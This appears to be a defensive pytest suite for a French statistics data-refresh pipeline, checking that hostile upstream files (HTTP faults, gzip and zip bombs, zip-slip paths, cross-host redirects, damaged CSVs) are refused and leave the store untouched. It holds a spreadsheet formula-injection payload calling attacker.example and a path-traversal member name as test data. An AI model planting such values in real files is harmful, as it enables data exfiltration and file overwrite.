"""The fault matrix: the `refresh` flow against a hostile upstream (tests/faults.py), through real HTTP.

Every case starts from the same good world (a store refreshed from the demo mirror and its national publication),
breaks one upstream file the way a failing or hostile server would, runs the refresh, and asserts
- the outcome: the run completes (a transient fault) or fails naming the source and the reason;
- the store: raw files, staged tables and manifest records as they were (a failure adds only `last_failure`);
- the publication: every version and `latest` as they were;
- no leftover: no `.part`, `.tmp`, draft or pending area once the run has ended.
"""

from __future__ import annotations

import email.utils
import os
import shutil
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from cli_support import Run
from faults import (
    always,
    cut_body,
    empty_body,
    faulty_mirror,
    garbage,
    gzip_bomb,
    html_page,
    leftovers,
    member_file,
    publication_state,
    redirect_to,
    slow,
    status_then_ok,
    store_state,
    upstream_path,
    zip_bomb,
    zip_slip,
)
from flow_support import mirror_copy, run

from flows.refresh import refresh

pytestmark = pytest.mark.usefixtures("prefect_harness")


@pytest.fixture(scope="module")
def good_world(tmp_path_factory):
    """A store refreshed from the demo mirror and its national publication: the state every case starts from."""
    tmp = tmp_path_factory.mktemp("fault-matrix")
    root = mirror_copy(tmp)
    with faulty_mirror(root) as mirror:
        state = run(refresh, mirror=mirror.url, data_dir=str(tmp / "data"), publish_dir=str(tmp / "pub"))
    assert state.is_completed(), state.message
    return tmp


@dataclass
class World:
    data: Path
    pub: Path
    root: Path  # the mirror copy this case may edit
    mirror: object  # FaultyMirror

    def refresh(self, *sources: str, **params):
        return run(
            refresh,
            sources=list(sources) or None,
            mirror=self.mirror.url,
            data_dir=str(self.data),
            publish_dir=str(self.pub),
            **params,
        )


@pytest.fixture
def world(good_world, tmp_path, monkeypatch):
    for name in ("data", "pub", "mirror"):
        shutil.copytree(good_world / name, tmp_path / name, symlinks=True)
    # a test waits seconds, not the minutes a real outage is given
    monkeypatch.setenv("ABS_RETRY_BUDGET", "8")
    with faulty_mirror(tmp_path / "mirror") as mirror:
        yield World(tmp_path / "data", tmp_path / "pub", tmp_path / "mirror", mirror)


def assert_failed_and_untouched(world: World, state, key: str, *fragments: str, before: tuple) -> str:
    """The run failed on `key` only, its error says every fragment, and nothing else moved; returns the error."""
    assert state.is_failed(), f"the run should fail on {key}"
    report = state.result(raise_on_failure=False).report
    assert [r.key for r in report.failed] == [key], [r.error for r in report.failed]
    error = report.failed[0].error or ""
    for fragment in fragments:
        assert fragment in error, f"{fragment!r} not in:\n{error}"
    after = store_state(world.data)
    assert after == before[0], f"the store changed: {_difference(before[0], after)}"
    assert publication_state(world.pub) == before[1], "the publication changed"
    assert leftovers(world.data, world.pub) == []
    return error


def _difference(before: dict, after: dict) -> list[str]:
    files = [
        f"{k}: {before['files'].get(k, 'absent')} -> {after['files'].get(k, 'absent')}"
        for k in sorted(set(before["files"]) | set(after["files"]))
        if before["files"].get(k) != after["files"].get(k)
    ]
    entries = [
        f"manifest {k}"
        for k in sorted(set(before["manifest"].get("entries", {})) | set(after["manifest"].get("entries", {})))
        if before["manifest"].get("entries", {}).get(k) != after["manifest"].get("entries", {}).get(k)
    ]
    return files + entries


def snapshot(world: World) -> tuple:
    return store_state(world.data), publication_state(world.pub)


# -- transient faults: the run completes, nothing new is published (the files did not change) ----------------------

TRANSIENT = {
    "500 then OK": status_then_ok(500, 1),
    "503 twice then OK": status_then_ok(503, 2),
    "429 Retry-After in seconds": status_then_ok(429, 1, {"Retry-After": "1"}),
    "429 Retry-After as an HTTP date": status_then_ok(
        429, 1, {"Retry-After": email.utils.formatdate(time.time() + 1, usegmt=True)}
    ),
}


@pytest.mark.parametrize("fault", TRANSIENT.values(), ids=TRANSIENT.keys())
def test_a_transient_fault_is_retried_and_changes_nothing(world, fault):
    path = upstream_path("births", "2024")
    world.mirror.faults[path] = fault
    before_pub = publication_state(world.pub)
    state = world.refresh("births")
    assert state.is_completed(), state.message
    assert world.mirror.hits[path] >= 2
    births = next(r for r in state.result()["report"].results if r.source == "births")
    assert births.status == "unchanged"
    assert state.result()["publication"].startswith("Nothing new")
    assert publication_state(world.pub) == before_pub and leftovers(world.data, world.pub) == []


# -- faults of the transfer: the download is refused, the previous file and table are kept -----------------------

TRANSFER = {
    "persistent 503": (always(503), "HTTP 503"),
    "404": (always(404), "HTTP 404"),
    "body cut off": (cut_body, "the body was cut off"),
    "HTML page with 200": (html_page, "an HTML page was served instead of zip"),
    "corrupt zip": (garbage, "not a readable zip archive"),
    "empty body": (empty_body, "not a readable zip archive"),
}


@pytest.mark.parametrize("fault, message", TRANSFER.values(), ids=TRANSFER.keys())
def test_a_broken_transfer_is_refused_and_the_store_and_publication_are_kept(world, fault, message):
    world.mirror.faults[upstream_path("rp_population", "2022")] = fault
    before = snapshot(world)
    state = world.refresh("rp_population")
    assert_failed_and_untouched(world, state, "rp_population/2022", message, before=before)


def test_a_read_timeout_is_refused(world, monkeypatch):
    monkeypatch.setenv("ABS_READ_TIMEOUT", "0.5")  # read when the refresh makes its session
    world.mirror.faults[upstream_path("births", "2024")] = slow(3)
    before = snapshot(world)
    state = world.refresh("births")
    assert_failed_and_untouched(world, state, "births/2024", "Read timed out", before=before)


# -- faults of the content: the file is refused with the column, the rule and sample rows ------------------------


def _edit(path: Path, change) -> None:
    raw = path.read_bytes()
    bom = raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    newline = "\r\n" if "\r\n" in text else "\n"
    lines = text.split(newline)
    lines = change(lines)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + newline.join(lines).encode("utf-8"))


def _cell(lines: list[str], row: int, column: str, value: str, sep: str = ";") -> list[str]:
    header = [h.strip('"') for h in lines[0].split(sep)]
    cells = lines[row].split(sep)
    cells[header.index(column)] = value
    lines[row] = sep.join(cells)
    return lines


def _rename(column: str, new: str, sep: str = ";"):
    def change(lines):
        header = lines[0].split(sep)
        lines[0] = sep.join(new if h.strip('"') == column else h for h in header)
        return lines

    return change


CENSUS = ("rp_population", "2022", "rp_population/2022")
CAF = ("caf_benefits", "2024", "caf_benefits/2024")

CONTENT = {
    "renamed column": (
        CENSUS,
        _rename("P22_POP", "P22_POPULATION"),
        ["column 'P22_POP'", "required column missing from the file"],
    ),
    # one rule broken, not also every part "above" a negative whole
    "negative count": (
        CENSUS,
        lambda lines: _cell(lines, 1, "P22_POP", "-5"),
        ["(1 rule(s) broken)", "column 'P22_POP'", "count within [0, +inf]", "= -5.0"],
    ),
    "duplicated row": (
        CENSUS,
        lambda lines: lines[:2] + [lines[1]] + lines[2:],
        # one file row holds the 2022, 2016 and 2011 figures: three repeated keys
        ["column 'CODGEO'", "duplicated row (3 row(s))", "COM 01001 2022"],
    ),
    "unknown commune": (
        CENSUS,
        lambda lines: _cell(lines, 1, "CODGEO", "99999"),
        ["column 'CODGEO'", "code known to the COG of the file's geography (3 row(s))", "COM 99999 2022"],
    ),
    "wrong separator": (CENSUS, lambda lines: [line.replace(";", ",") for line in lines], ["separator"]),
    # damaged data that used to pass (issue 9): only the size of the file, or an impossible value, gives it away
    "first half of the rows": (
        CAF,
        lambda lines: lines[: len(lines) // 2],
        ["(rows)", "at most 10% fewer rows than the previous staging", "abs-diag refresh --accept-drop caf_benefits"],
    ),
    "header only": (
        CAF,
        lambda lines: lines[:1] + [""],
        ["the file holds rows of its level (COM)", "an empty or header-only file"],
    ),
    "half the census communes": (
        CENSUS,
        lambda lines: lines[:1] + lines[1::2],
        ["column 'CODGEO'", "at least 95% of the communes of COG 2025 present"],
    ),
    "NaN count": (
        CENSUS,
        lambda lines: _cell(lines, 1, "P22_POP", "NaN"),
        ["column 'P22_POP'", "a finite number (not NaN nor infinite)"],
    ),
    "infinite count": (
        CAF,
        lambda lines: _cell(lines, 1, "indfoy_rsa", "inf"),
        ["column 'indfoy_rsa'", "a finite number (not NaN nor infinite)"],
    ),
    "absurd count": (
        CENSUS,
        lambda lines: _cell(lines, 1, "P22_POP", "1e300"),
        ["column 'P22_POP'", "at level COM at most", "(plausible for France)"],
    ),
    "part above its whole": (
        CENSUS,
        lambda lines: _cell(lines, 1, "P22_POP0014", "99999"),
        ["column 'P22_POP0014'", "P22_POP"],
    ),
    "CAF negative count": (
        CAF,
        lambda lines: _cell(lines, 1, "indfoy_rsa", "-10"),
        ["column 'indfoy_rsa'", "count within [0, +inf]"],
    ),
}


@pytest.mark.parametrize("entry, change, fragments", CONTENT.values(), ids=CONTENT.keys())
def test_a_damaged_file_is_refused_naming_the_column_and_the_rule(world, entry, change, fragments):
    source, vintage, key = entry
    _edit(member_file(world.root, source, vintage), change)
    before = snapshot(world)
    state = world.refresh(source)
    assert_failed_and_untouched(world, state, key, *fragments, before=before)


def test_a_latin1_file_of_a_source_without_fallback_is_refused(world):
    path = member_file(world.root, "caf_benefits", "2024")
    path.write_bytes(
        path.read_bytes().decode("utf-8-sig").replace("é", "é").encode("utf-8") + "Sèvre;".encode("latin-1")
    )
    before = snapshot(world)
    state = world.refresh("caf_benefits")
    assert_failed_and_untouched(world, state, "caf_benefits/2024", "not valid UTF-8", before=before)


def test_a_latin1_census_file_is_read_with_its_declared_fallback(world):
    path = member_file(world.root, "rp_population", "2022")
    text = path.read_bytes().decode("utf-8-sig")
    path.write_bytes(text.encode("latin-1"))
    state = world.refresh("rp_population")
    assert state.is_completed(), state.message
    assert leftovers(world.data, world.pub) == []


# -- resources and boundaries -------------------------------------------------------------------------------------


@pytest.fixture
def small_limits(monkeypatch):
    """The catalogue with download and unpacked limits of 10 MB (a bomb of 64 MiB is then refused)."""
    from sources import catalogue

    raw = dict(catalogue._raw())
    raw["limits"] = raw.get("limits", {}) | {"max_download_mb": 10, "max_unpacked_mb": 10}
    monkeypatch.setattr(catalogue, "_raw", lambda: raw)
    catalogue.entries.cache_clear()
    yield
    monkeypatch.undo()
    catalogue.entries.cache_clear()


def test_a_persistent_503_gives_up_within_the_retry_budget_and_says_how_long_it_tried(world, monkeypatch):
    monkeypatch.setenv("ABS_RETRY_BUDGET", "2")
    world.mirror.faults[upstream_path("births", "2024")] = always(503)
    before = snapshot(world)
    started = time.monotonic()
    state = world.refresh("births")
    assert time.monotonic() - started < 30
    assert_failed_and_untouched(
        world, state, "births/2024", "HTTP 503", "gave up after", "attempt(s)", "retry budget of 2 s", before=before
    )


def test_a_gzip_bomb_is_refused_and_not_left_on_disk(world, small_limits):
    world.mirror.faults[upstream_path("births", "2024")] = gzip_bomb(64 << 20)
    before = snapshot(world)
    state = world.refresh("births")
    assert_failed_and_untouched(world, state, "births/2024", "the body exceeds the limit of", before=before)
    big = [p for p in world.data.rglob("*") if p.is_file() and p.stat().st_size > 10_000_000]
    assert big == []


@pytest.mark.parametrize("declared_ok", [True, False], ids=["declared size", "lying size"])
def test_a_zip_bomb_is_refused(world, small_limits, declared_ok):
    world.mirror.faults[upstream_path("rp_population", "2022")] = zip_bomb(
        "base-cc-evol-struct-pop-2022.CSV", declared_ok
    )
    before = snapshot(world)
    state = world.refresh("rp_population")
    error = assert_failed_and_untouched(world, state, "rp_population/2022", before=before)
    assert ("above the limit of 10 000 000 bytes" in error) if declared_ok else ("CRC" in error), error


def test_a_redirect_to_another_host_is_not_followed(world):
    path = upstream_path("births", "2024")
    world.mirror.faults[path] = redirect_to(f"http://localhost:{world.mirror.port}{path}")
    before = snapshot(world)
    state = world.refresh("births")
    assert_failed_and_untouched(world, state, "births/2024", "to another host", "not followed", before=before)


def test_a_redirect_loop_fails_at_once(world):
    path = upstream_path("births", "2024")
    world.mirror.faults[path] = redirect_to(path)
    before = snapshot(world)
    started = time.monotonic()
    state = world.refresh("births")
    assert time.monotonic() - started < 30
    assert_failed_and_untouched(world, state, "births/2024", "redirect loop", before=before)


def test_offline_the_refresh_says_so_within_seconds(world):
    import socket

    with socket.socket() as sock:  # a port nobody listens on
        sock.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{sock.getsockname()[1]}"
    before = snapshot(world)
    started = time.monotonic()
    state = run(refresh, mirror=dead, data_dir=str(world.data), publish_dir=str(world.pub))
    assert time.monotonic() - started < 20
    assert state.is_failed() and "cannot reach the mirror" in state.message
    assert snapshot(world) == before and leftovers(world.data, world.pub) == []


# -- hostile archives ---------------------------------------------------------------------------------------------


def test_an_archive_with_zip_slip_member_names_is_refused(world):
    world.mirror.faults[upstream_path("rp_population", "2022")] = zip_slip("base-cc-evol-struct-pop-2022.CSV")
    before = snapshot(world)
    state = world.refresh("rp_population")
    assert_failed_and_untouched(
        world, state, "rp_population/2022", "zip slip", "'../../../../tmp/abs-diag-zip-slip.txt'", before=before
    )
    assert not Path("/tmp/abs-diag-zip-slip.txt").exists() and not Path("/etc/abs-diag-zip-slip.txt").exists()


# -- hostile names: published, but never as a live formula -----------------------------------------------------

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Clisson")'


def test_a_commune_name_written_as_a_formula_is_published_as_text(world):
    import csv

    def rename(lines):
        header = lines[0].split(",")
        for n, line in enumerate(lines[1:], start=1):
            cells = line.split(",")
            if len(cells) == len(header) and cells[1] == "44043":  # Clisson
                cells[header.index("LIBELLE")] = '"' + HOSTILE.replace('"', '""') + '"'
                lines[n] = ",".join(cells)
        return lines

    _edit(member_file(world.root, "cog_communes", "2025"), rename)
    state = world.refresh()
    assert state.is_completed(), state.message
    folder = Path(state.result()["published"])
    with (folder / "indicateurs-france.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = {row["nom"] for row in csv.DictReader(handle, delimiter=";")}
    assert "'" + HOSTILE in names and HOSTILE not in names
    # France has no XLSX (a territory's has: tests/test_indicators_exports.py checks it writes text as text)
    assert not (folder / "indicateurs-france.xlsx").exists()
    assert leftovers(world.data, world.pub) == []


def test_a_store_refreshed_from_the_demo_mirror_publishes_figures_marked_synthetic(world):
    import polars as pl

    # the good world was refreshed from a plain copy of the demo mirror, without any demo flag
    latest = Path(world.pub) / "indicateurs" / "latest"
    table = pl.read_parquet(latest / "indicateurs-france.parquet")
    assert table["demo"].unique().to_list() == [True]
    text = (latest / "indicateurs-france.csv").read_text(encoding="utf-8-sig")
    assert text.splitlines()[0].endswith(";données") and "synthétiques (démonstration)" in text


# -- kills: the real command in a subprocess, SIGKILL at a chosen moment, then the next run ----------------------


def _command(world: World, prefect_home: Path, cwd: Path) -> Run:
    return Run(
        ["refresh", "--force", "--mirror", world.mirror.url, "--data-dir", str(world.data), "--out", str(world.pub)],
        prefect_home,
        cwd,
    )


def test_a_refresh_killed_while_staging_changes_nothing_and_the_next_run_cleans_up(world, prefect_home, tmp_path):
    world.mirror.faults[upstream_path("births", "2024")] = slow(10)  # the run stays in its staging phase
    before = snapshot(world)
    run = _command(world, prefect_home, tmp_path)
    run.kill_when(lambda: any((world.data / "pending").glob("*/staged/*/*.parquet")), timeout=90)
    assert run.survivors(within=10) == []  # Prefect's temporary server died with the command
    assert snapshot(world) == before  # the store switches to a run's state only at its end
    assert leftovers(world.data) != []  # the killed run's pending area, until the next run
    del world.mirror.faults[upstream_path("births", "2024")]
    state = world.refresh()
    assert state.is_completed(), state.message
    assert leftovers(world.data, world.pub) == []


def test_a_refresh_killed_while_publishing_keeps_latest_and_the_next_run_sets_the_draft_aside(
    world, prefect_home, tmp_path
):
    pub = world.pub / "indicateurs"
    latest = pub.resolve() / os.readlink(pub / "latest")
    before = publication_state(world.pub)
    run = _command(world, prefect_home, tmp_path)
    run.kill_when(lambda: any(pub.glob("_draft-*")), timeout=90)
    assert run.survivors(within=10) == []
    assert (pub / "latest").resolve() == latest
    assert {k: v for k, v in publication_state(world.pub).items() if "/_draft-" not in k} == before
    state = world.refresh()  # the store holds the killed run's tables: they are published now
    assert state.is_completed(), state.message and state.result()["published"]
    [aside] = list(pub.glob("_failed-*"))
    assert "interrupted" in (aside / "failure.txt").read_text(encoding="utf-8")
    assert leftovers(world.data, world.pub) == [] and (pub / "latest").resolve() != latest


# -- two refreshes ------------------------------------------------------------------------------------------------


def test_two_refreshes_in_a_row_download_and_publish_nothing_new(world):
    before = publication_state(world.pub)
    for _ in range(2):
        state = world.refresh()
        assert state.is_completed(), state.message
        assert {r.status for r in state.result()["report"].results} == {"unchanged"}
    assert publication_state(world.pub) == before and leftovers(world.data, world.pub) == []
